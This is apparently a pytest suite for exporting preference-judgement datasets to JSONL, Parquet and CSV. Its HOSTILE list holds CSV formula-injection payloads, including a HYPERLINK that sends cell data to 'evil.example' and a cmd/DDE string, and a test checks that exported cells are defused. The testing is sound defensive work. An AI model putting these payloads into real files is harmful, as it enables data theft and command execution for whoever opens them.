"""Exports: every judgement accounted for, every row leads back, nothing runs, nothing is half written."""

import csv
import json
from collections import Counter
from pathlib import Path

import pyarrow.parquet as pq
import pytest
from hypothesis import given
from hypothesis import strategies as st

from steering.errors import InputError, StorageError
from steering.types import Message, Role
from storage.exchange.export import ExportPlan, FileKind, Manifest, export_judgements
from storage.exchange.foreign import read_foreign
from storage.exchange.formats import Format
from storage.exchange.pair_rows import full_row, pair_from
from storage.exchange.selection import Selection
from storage.exchange.writing import Repairs
from storage.records import Strength
from storage.records_pairs import CanonicalSide, JudgedPair, NamedBlend, Outcome
from tests.storage.judged import HELPFUL, UNGUIDED, a_pair, pairs_of

HOSTILE = [
    '=HYPERLINK("http://evil.example?x="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "@SUM(1)",
    "-2+3",
    "\t=1",
    "  =1+1",
    "＝1",
    "line\nbreak\r\nand \u2028 and \x00",
    '"quoted", comma; 🙂',
    "x" * 300_000,
]
EVERY_KIND = [*pairs_of("abtns"), a_pair(5, is_gold=True), a_pair(6, repeat_of="0" * 32), a_pair(7, messages=())]


def exported(tmp_path: Path, pairs: list[JudgedPair], plan: ExportPlan) -> tuple[Manifest, list[dict[str, object]]]:
    manifest = export_judgements(pairs, plan, tmp_path / "out")
    assert json.loads((tmp_path / "out/manifest.json").read_text())["n_judgements"] == len(pairs)
    lines = (tmp_path / "out/train.jsonl").read_text(encoding="utf-8").split("\n")
    return manifest, [json.loads(line) for line in lines if line]


@pytest.mark.parametrize("format_", list(Format))
def test_every_judgement_is_used_or_counted_with_a_reason(format_: Format, tmp_path: Path) -> None:
    manifest, _ = exported(tmp_path, EVERY_KIND, ExportPlan(format_))
    assert manifest.n_used + sum(manifest.left_out.values()) == len(EVERY_KIND)
    if format_ is Format.TRL:
        assert manifest.left_out == {"both_bad": 1, "gold": 1, "no_text": 1, "repeat": 1, "skip": 1, "tie": 1}
    if format_ is Format.FULL:
        assert manifest.left_out == {}


def test_a_trl_row_has_the_preferred_answer_as_chosen_whichever_side_it_is(tmp_path: Path) -> None:
    _, rows = exported(tmp_path, pairs_of("ab"), ExportPlan(Format.TRL))
    assert [(row["prompt"], row["chosen"], row["rejected"]) for row in rows] == [
        ("Question 0?", "No.", "Yes, of course."),
        ("Question 1?", "Yes, of course.", "No."),
    ]
    assert (rows[1]["chosen_blend"], rows[1]["rejected_blend"]) == (HELPFUL.key, UNGUIDED.key)
    assert rows[1]["chosen_generation_id"] == a_pair(1).generation_b_id


def test_a_conversational_row_is_lists_of_messages(tmp_path: Path) -> None:
    said = (Message(Role.SYSTEM, "Be brief."), Message(Role.USER, "Why?"))
    _, (row,) = exported(tmp_path, [a_pair(messages=said)], ExportPlan(Format.TRL_CHAT))
    assert row["prompt"] == [{"role": "system", "content": "Be brief."}, {"role": "user", "content": "Why?"}]
    assert row["chosen"] == [{"role": "assistant", "content": "No."}]


@pytest.mark.parametrize("format_", [Format.TRL, Format.TRL_CHAT, Format.ARENA, Format.FULL])
def test_every_row_leads_back_to_its_judgement(format_: Format, tmp_path: Path) -> None:
    _, rows = exported(tmp_path, pairs_of("abba"), ExportPlan(format_))
    assert [row["judgement_id"] for row in rows] == [a_pair(number).judgement_id for number in range(4)]
    assert [row["comparison_id"] for row in rows] == [a_pair(number).comparison_id for number in range(4)]


def test_arena_battles_tell_ties_and_both_bad(tmp_path: Path) -> None:
    manifest, rows = exported(tmp_path, pairs_of("abtns"), ExportPlan(Format.ARENA))
    assert [row["winner"] for row in rows] == ["model_a", "model_b", "tie", "tie (bothbad)"]
    assert manifest.left_out == {"skip": 1}
    assert rows[0]["model_a"] == UNGUIDED.key
    assert rows[0]["conversation_a"] == [
        {"role": "user", "content": "Question 0?"},
        {"role": "assistant", "content": "No."},
    ]


def test_a_safe_rlhf_row_joins_the_two_dimensions_of_one_annotator(tmp_path: Path) -> None:
    pairs = [
        a_pair(0, dimension="helpfulness", outcome=Outcome.A),
        a_pair(0, dimension="harmlessness", outcome=Outcome.B),
        a_pair(1, dimension="harmlessness", outcome=Outcome.A),
        a_pair(2, dimension="overall"),
    ]
    manifest, rows = exported(tmp_path, pairs, ExportPlan(Format.SAFE_RLHF))
    assert [(row["better_response_id"], row["safer_response_id"]) for row in rows] == [(0, 1), (None, 0)]
    assert (manifest.n_used, manifest.left_out) == (3, {"other_dimension": 1})


def test_a_prompt_is_either_for_training_or_for_testing(tmp_path: Path) -> None:
    pairs = [a_pair(number, messages=(Message(Role.USER, f"Question {number % 200}"),)) for number in range(400)]
    plan = ExportPlan(Format.TRL, selection=Selection(test_share=0.25, seed=7))
    manifest = export_judgements(pairs, plan, tmp_path / "one")
    halves = [
        {json.loads(line)["prompt"] for line in (tmp_path / f"one/{half}.jsonl").read_text().splitlines()}
        for half in ("train", "test")
    ]
    assert not halves[0] & halves[1]
    # 200 prompts at 1/4: four standard deviations of the binomial are 24.5.
    assert 25 < len(halves[1]) < 75
    assert sum(manifest.n_rows.values()) == 400
    export_judgements(pairs[::-1], plan, tmp_path / "again")
    again = {json.loads(line)["prompt"] for line in (tmp_path / "again/test.jsonl").read_text().splitlines()}
    assert again == halves[1]


def test_annotators_who_miss_gold_and_those_who_saw_none_are_left_out(tmp_path: Path) -> None:
    good, bad, unknown = "1" * 32, "2" * 32, "3" * 32
    pairs = [
        a_pair(0, annotator_id=good, reliability=1.0, is_gold=True, gold_answer=Outcome.A, outcome=Outcome.A),
        a_pair(1, annotator_id=bad, reliability=0.0, is_gold=True, gold_answer=Outcome.A, outcome=Outcome.B),
        a_pair(2, annotator_id=good, reliability=1.0),
        a_pair(3, annotator_id=bad, reliability=0.0),
        a_pair(4, annotator_id=unknown),
    ]
    manifest, rows = exported(tmp_path, pairs, ExportPlan(Format.TRL, selection=Selection(min_reliability=0.5)))
    assert [row["annotator_id"] for row in rows] == [good]
    assert manifest.left_out == {"gold": 2, "reliability_unknown": 1, "unreliable": 1}


def test_comparisons_on_which_people_disagree_are_left_out(tmp_path: Path) -> None:
    def judged(comparison: int, outcomes: str) -> list[JudgedPair]:
        return [
            a_pair(10 * comparison + place, comparison_id=f"{comparison:032x}", outcome=Outcome(outcome))
            for place, outcome in enumerate(outcomes)
        ]

    pairs = judged(1, "aaab") + judged(2, "aabb")
    manifest, rows = exported(tmp_path, pairs, ExportPlan(Format.TRL, selection=Selection(min_agreement=0.7)))
    assert {row["comparison_id"] for row in rows} == {f"{1:032x}"}
    assert manifest.left_out == {"disagreement": 4}


@pytest.mark.parametrize("share", [-0.1, 1.1, float("nan")])
def test_a_share_that_is_none_is_refused(share: float) -> None:
    with pytest.raises(InputError, match="test_share"):
        Selection(test_share=share)


@pytest.mark.parametrize("kind", [FileKind.JSONL, FileKind.PARQUET])
def test_the_full_record_comes_back_equal(kind: FileKind, tmp_path: Path) -> None:
    pairs = [
        *EVERY_KIND,
        a_pair(8, strength=Strength.CLEARLY, shown_left=CanonicalSide.B, gold_answer=Outcome.TIE, study_id=None),
        a_pair(9, blend_a=NamedBlend("bold", {"helpfulness": 2.0}, "helpfulness version 3, base exponent 0.5")),
        *(a_pair(20 + place, response_a=text, reason=text[:99]) for place, text in enumerate(HOSTILE)),
    ]
    export_judgements(pairs, ExportPlan(Format.FULL, kind), tmp_path / "out")
    file = tmp_path / f"out/train.{kind.value}"
    if kind is FileKind.PARQUET:
        rows = pq.read_table(file).to_pylist()
    else:
        rows = [json.loads(line) for line in file.read_text().splitlines()]
    assert [pair_from(row) for row in rows] == pairs


@given(st.text(), st.text())
def test_any_text_comes_back_from_its_row(response: str, reason: str) -> None:
    pair = a_pair(response_a=response, reason=reason)
    assert pair_from(json.loads(json.dumps(full_row(pair)))) == pair


def test_no_cell_of_a_csv_is_a_formula(tmp_path: Path) -> None:
    pairs = [a_pair(place, response_a=text, reason=text) for place, text in enumerate(HOSTILE)]
    manifest = export_judgements(pairs, ExportPlan(Format.FULL, FileKind.CSV), tmp_path / "out")
    csv.field_size_limit(10**6)
    with (tmp_path / "out/train.csv").open(encoding="utf-8-sig", newline="") as file:
        rows = list(csv.DictReader(file))
    for row, text in zip(rows, HOSTILE, strict=True):
        assert row["response_a"].removeprefix("'") == text
        assert not any(cell.lstrip(" ").startswith(tuple("=+-@\t\r\n＝＋－＠")) for cell in row.values())
    assert manifest.n_cells_defused == 2 * 7


@given(st.text(alphabet="=+-@\t\r\n 1a＝"))
def test_a_defused_cell_starts_with_nothing_a_spreadsheet_runs(text: str) -> None:
    assert not Repairs().cell(text).lstrip(" ").startswith(tuple("=+-@\t\r\n＝＋－＠"))


def test_half_a_character_is_replaced_and_counted(tmp_path: Path) -> None:
    pairs = [a_pair(response_a="cut \ud83d here"), a_pair(1, response_a="whole \ud83d\ude42")]
    for kind in FileKind:
        plan = ExportPlan(Format.FULL, kind)
        assert export_judgements(pairs, plan, tmp_path / kind.value).n_texts_repaired == 2
    rows = pq.read_table(tmp_path / "parquet/train.parquet").to_pylist()
    assert [row["response_a"] for row in rows] == ["cut \ufffd here", "whole 🙂"]


def test_an_export_does_not_overwrite(tmp_path: Path) -> None:
    (tmp_path / "out").mkdir()
    with pytest.raises(InputError, match="already something"):
        export_judgements([], ExportPlan(), tmp_path / "out")


def test_an_export_that_fails_leaves_nothing_behind(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    def full_disk(*_: object) -> None:
        raise OSError(28, "No space left on device")

    monkeypatch.setattr("storage.exchange.export.write_json_lines", full_disk)
    with pytest.raises(StorageError, match="No space left"):
        export_judgements(pairs_of("ab"), ExportPlan(), tmp_path / "out")
    assert list(tmp_path.iterdir()) == []


@pytest.mark.parametrize("format_", list(Format))
@pytest.mark.parametrize("kind", [FileKind.JSONL, FileKind.PARQUET])
def test_an_export_of_nothing_is_an_empty_file(format_: Format, kind: FileKind, tmp_path: Path) -> None:
    manifest = export_judgements([], ExportPlan(format_, kind), tmp_path / "out")
    assert manifest.n_rows == {f"train.{kind.value}": 0}


@pytest.mark.parametrize("format_", [Format.TRL, Format.TRL_CHAT, Format.SAFE_RLHF])
@pytest.mark.parametrize("kind", [FileKind.JSONL, FileKind.PARQUET])
def test_what_is_exported_can_be_read_as_foreign_preferences(format_: Format, kind: FileKind, tmp_path: Path) -> None:
    said = (
        Message(Role.SYSTEM, "Be kind."),
        Message(Role.USER, "Why?"),
        Message(Role.ASSISTANT, "Because."),
        Message(Role.USER, "And\nthen? 🙂"),
    )
    pairs = [
        a_pair(number, dimension="helpfulness", outcome=Outcome("ab"[number % 2]), messages=messages)
        for number, messages in enumerate([said, said[1:], said[1:2]])
    ]
    export_judgements(pairs, ExportPlan(format_, kind), tmp_path / "out")
    found = read_foreign(tmp_path / f"out/train.{kind.value}")
    assert found.refusals == ()
    assert [pair.messages for pair in found.pairs] == [pair.messages for pair in pairs]
    assert Counter(pair.chosen for pair in found.pairs) == Counter({"No.": 2, "Yes, of course.": 1})
    assert {pair.dimension for pair in found.pairs} == {"helpfulness"}
